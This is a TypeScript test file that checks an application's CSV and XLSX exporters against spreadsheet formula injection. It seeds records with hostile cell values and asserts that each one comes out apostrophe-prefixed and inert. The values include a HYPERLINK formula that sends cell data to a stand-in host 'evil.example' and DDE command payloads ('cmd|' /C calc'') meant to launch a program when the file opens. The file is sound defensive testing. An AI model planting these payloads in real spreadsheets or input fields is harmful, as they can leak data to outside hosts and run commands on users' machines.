import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { TestContext, type TestUser } from '../testing/test-app.ts';
import { createSystem, multipart, post } from './systems.testkit.ts';

// Formula injection: text typed by users must reach a spreadsheet as text, never as a formula.
// Every exporter's file is read back: each hostile text cell starts with an apostrophe.
let ctx: TestContext;
let coordinator: TestUser;
let unit: { id: string; code: string };

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
  notes: "+cmd|' /C calc'!A0",
  contact: "@SUM(1+1)*cmd|' /C calc'!A0",
  provider: "-2+3+cmd|' /C calc'!A0",
  software: '\t=1+1',
};

before(async () => {
  ctx = await TestContext.create();
  const focal = await ctx.unit({ name: 'Phòng Văn hoá, Khoa học và Thông tin', type: 'focal_office' });
  unit = (await ctx.unit({ name: 'UBND phường Bạch Sam' })) as { id: string; code: string };
  coordinator = await ctx.user(['coordinator'], { unitId: focal.id });
  await createSystem(ctx, coordinator, unit.id, {
    name: HOSTILE.name,
    notes: HOSTILE.notes,
    contacts: [{ name: HOSTILE.contact, phone: '0912345678' }],
    providers: { connectivity: HOSTILE.provider },
    software: [{ product: HOSTILE.software }],
  });
  await post(ctx, coordinator, '/api/budget/lines', {
    fiscalYear: 2027,
    category: 'licences',
    title: HOSTILE.name,
    amount: 1_000_000,
  });
});
after(() => ctx.close());

const FORMULA_START = /^[=+\-@\t\r]/;

function assertInert(texts: string[]) {
  const hostile = texts.filter((t) => FORMULA_START.test(t.replace(/^'/, '')));
  assert.ok(hostile.length > 0, 'the hostile texts are in the file');
  for (const text of texts)
    assert.doesNotMatch(text, FORMULA_START, `a cell starts a formula: ${JSON.stringify(text)}`);
}

async function sheetCells(bytes: Buffer): Promise<{ texts: string[]; formulas: number }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  let formulas = 0;
  workbook.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      else if (typeof cell.value === 'string') texts.push(cell.value);
    }),
  );
  return { texts, formulas };
}

describe('exports neutralise formula-like text', () => {
  test('systems CSV: every hostile cell starts with an apostrophe, and the file imports back unchanged', async () => {
    const res = await ctx.inject({
      method: 'GET',
      url: `/api/systems/export?format=csv&unitId=${unit.id}`,
      headers: coordinator.headers,
    });
    assert.equal(res.statusCode, 200);
    const rows = parse(res.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const texts = rows.flat();
    assertInert(texts);
    assert.ok(texts.includes(`'${HOSTILE.name}`));
    assert.ok(texts.includes(`'${HOSTILE.notes}`));

    // Re-importing the export reads the names back without the apostrophe: the dry run finds the
    // very system that was exported.
    const file = multipart('he-thong.csv', res.body, 'text/csv');
    const dry = await ctx.inject({
      method: 'POST',
      url: '/api/systems/import?dryRun=true',
      headers: { ...coordinator.headers, ...file.headers },
      payload: file.body,
    });
    assert.equal(dry.statusCode, 200, dry.body);
    const messages = dry
      .json()
      .rows.flatMap((r: { errors: { message: string }[] }) => r.errors.map((e) => e.message));
    assert.ok(
      messages.includes(`name: ${HOSTILE.name} already exists in this unit`),
      JSON.stringify(messages),
    );
  });

  test('systems XLSX: no formula cells, every hostile text starts with an apostrophe', async () => {
    const res = await ctx.inject({
      method: 'GET',
      url: `/api/systems/export?format=xlsx&unitId=${unit.id}`,
      headers: coordinator.headers,
    });
    assert.equal(res.statusCode, 200);
    const { texts, formulas } = await sheetCells(res.rawPayload);
    assert.equal(formulas, 0);
    assertInert(texts);
    assert.ok(texts.includes(`'${HOSTILE.name}`));
  });

  test('budget XLSX: a line title written as a formula stays text (only the SUM totals are formulas)', async () => {
    const res = await ctx.inject({
      method: 'GET',
      url: '/api/budget/export.xlsx?year=2027',
      headers: coordinator.headers,
    });
    assert.equal(res.statusCode, 200, res.body.slice(0, 300));
    const { texts, formulas } = await sheetCells(res.rawPayload);
    assert.equal(formulas, 4, 'the four SUM totals: asked, approved, spent, remaining');
    assertInert(texts);
    assert.ok(texts.includes(`'${HOSTILE.name}`));
  });
});
